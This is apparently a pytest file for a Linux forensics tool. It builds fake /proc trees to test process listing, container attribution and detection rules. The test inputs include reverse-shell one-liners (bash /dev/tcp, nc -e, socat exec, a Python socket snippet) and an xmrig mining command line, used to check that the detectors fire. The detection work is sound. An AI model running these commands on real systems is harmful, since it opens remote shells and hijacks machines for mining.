"""Process inventory on a fake /proc tree built under tmp_path: parsing, attribution, rules."""

from __future__ import annotations

import hashlib
import os
from pathlib import Path

from forensics.process.attribution import cgroup_container
from forensics.process.inventory import Hasher, list_processes, parse_stat
from forensics.process.rules import evaluate, miner_hits, reverse_shell_hits
from forensics.process.sockets import parse_inet

CID = "ab" * 32


def fake_proc(tmp: Path) -> Path:
    proc = tmp / "proc"
    proc.mkdir()
    (proc / "stat").write_text("cpu  1 2 3\nbtime 1700000000\n")
    return proc


def add_process(proc: Path, pid: int, ppid: int, comm: str, argv: list[str], exe: Path | str,
                cgroup: str = "0::/", mnt: str = "mnt:[1]", sockets: tuple[int, ...] = ()) -> None:  # fmt: skip
    d = proc / str(pid)
    d.mkdir()
    fields = ["S", str(ppid)] + ["0"] * 17 + ["100"]  # field 22 (starttime) is index 19 after ')'
    (d / "stat").write_text(f"{pid} ({comm}) {' '.join(fields)} 0 0\n")
    (d / "status").write_text(f"Name:\t{comm}\nUid:\t1000\t1000\t1000\t1000\nGid:\t50\t50\t50\t50\n")
    (d / "cmdline").write_bytes(b"\0".join(a.encode() for a in argv) + b"\0")
    (d / "cgroup").write_text(cgroup + "\n")
    os.symlink(str(exe), d / "exe")
    os.symlink("/", d / "cwd")
    (d / "ns").mkdir()
    os.symlink(mnt, d / "ns" / "mnt")
    os.symlink("pid:[2]", d / "ns" / "pid")
    os.symlink("net:[3]", d / "ns" / "net")
    (d / "fd").mkdir()
    for n, inode in enumerate(sockets):
        os.symlink(f"socket:[{inode}]", d / "fd" / str(n + 3))
    (d / "net").mkdir()
    (d / "net" / "tcp").write_text(
        "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n"
        "   0: 0100007F:1F90 0200000A:D431 01 00000000:00000000 00:00000000 00000000  1000 0 4242 1 0\n"
    )
    (d / "net" / "unix").write_text("Num       RefCount Protocol Flags    Type St Inode Path\n"
                                    "0000: 00000002 00000000 00010000 0001 01 5151 /run/x.sock\n")  # fmt: skip


def test_listing_reads_fields_hashes_exe_and_joins_sockets(tmp_path: Path) -> None:
    proc = fake_proc(tmp_path)
    exe = tmp_path / "bin" / "worker"
    exe.parent.mkdir()
    exe.write_bytes(b"\x7fELF fake body")
    add_process(proc, 10, 1, "worker", ["worker", "--serve"], exe, sockets=(4242, 5151, 9999))
    listing = list_processes(str(proc), None)
    [p] = listing.processes
    assert (p.pid, p.ppid, p.uid, p.gid, p.comm, p.cmdline) == (
        10,
        1,
        1000,
        50,
        "worker",
        ["worker", "--serve"],
    )
    assert p.exe == str(exe) and not p.exe_deleted
    assert p.exe_sha256 == hashlib.sha256(b"\x7fELF fake body").hexdigest()
    assert p.start_time == "2023-11-14T22:13:21Z"  # btime + 100 ticks / 100 Hz
    assert p.container is None
    assert [(s.proto, s.local, s.remote, s.state) for s in p.sockets] == [
        ("tcp", "127.0.0.1:8080", "10.0.0.2:54321", "ESTABLISHED"),
        ("unix", "/run/x.sock", "", "01"),
    ]
    # tmp_path lies under /tmp, so only that rule may fire on this ordinary process
    assert {f.rule for f in evaluate(p, "t")} <= {"process.exe-in-temp"}


def test_rules_fire_on_temp_deleted_miner_and_renamed(tmp_path: Path) -> None:
    proc = fake_proc(tmp_path)
    add_process(proc, 20, 1, "kworker", ["./xmrig", "-o", "stratum+tcp://pool.invalid:3333", "-u", "w",
                                        "--donate-level", "1"], "/tmp/.x/xmrig (deleted)",
                cgroup=f"9:name=systemd:/docker/{CID}")  # fmt: skip
    listing = list_processes(str(proc), None)
    [p] = listing.processes
    assert p.exe == "/tmp/.x/xmrig" and p.exe_deleted
    assert p.container is not None and p.container.id == CID and p.container.matched_by == "cgroup"
    rules = {f.rule for f in evaluate(p, "t")}
    assert rules == {
        "process.deleted-exe",
        "process.exe-in-temp",
        "process.comm-mismatch",
        "process.miner-argv",
    }


def test_our_tree_and_our_container_are_left_out(tmp_path: Path) -> None:
    proc = fake_proc(tmp_path)
    add_process(proc, 30, 1, "a", ["a"], "/bin/a")
    add_process(proc, 31, 30, "b", ["b"], "/bin/b")
    add_process(proc, 40, 1, "c", ["c"], "/bin/c", cgroup=f"1:cpu:/docker/{CID}")
    add_process(proc, 50, 1, "d", ["d"], "/bin/d")
    listing = list_processes(str(proc), None, exclude_container=CID, exclude_tree=30)
    assert [p.pid for p in listing.processes] == [50]
    assert sorted(listing.excluded) == [30, 31, 40]


def test_argv_patterns() -> None:
    assert miner_hits("/opt/m -o pool.example:4444 -u wallet -p x")
    assert reverse_shell_hits("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")
    assert reverse_shell_hits("nc -e /bin/sh 10.0.0.1 4444")
    assert reverse_shell_hits("socat tcp:10.0.0.1:4444 exec:/bin/sh")
    assert reverse_shell_hits(
        "python3 -c import socket,os;s=socket.socket();s.connect(('h',1));os.dup2(s.fileno(),0)"
    )
    assert not miner_hits("nginx -g daemon off;") and not reverse_shell_hits("bash -c 'ls -l'")
    assert not reverse_shell_hits("sshd: /usr/sbin/sshd -D")


def test_odd_stat_and_cgroup_text() -> None:
    assert parse_stat(b"7 (a) b) c) S 3 " + b"0 " * 17 + b"55 0") == ("a) b) c", 3, 55)
    assert parse_stat(b"garbage") is None
    assert cgroup_container(f"0::/system.slice/docker-{CID}.scope") == CID
    assert cgroup_container("0::/user.slice") is None
    [sock] = parse_inet("h\n 0: 00000000000000000000000001000000:0016 "
                        "00000000000000000000000000000000:0000 0A 0 0 0 0 0 77\n", "tcp6").values()  # fmt: skip
    assert (sock.local, sock.state, sock.inode) == ("[::1]:22", "LISTEN", 77)


def test_hasher_hashes_the_running_exe_once_and_refuses_one_over_its_limit() -> None:
    exe = Path(f"/proc/{os.getpid()}/exe").resolve()
    expected = hashlib.sha256(exe.read_bytes()).hexdigest()
    hasher = Hasher()
    assert hasher.hash("/proc", os.getpid()) == (expected, exe.stat().st_size)
    assert hasher.hash("/proc", os.getpid())[0] == expected  # from its cache, by inode
    small = Hasher(limit=exe.stat().st_size - 1)
    digest, _ = small.hash("/proc", os.getpid())
    assert not isinstance(digest, str) and "larger than" in digest.reason
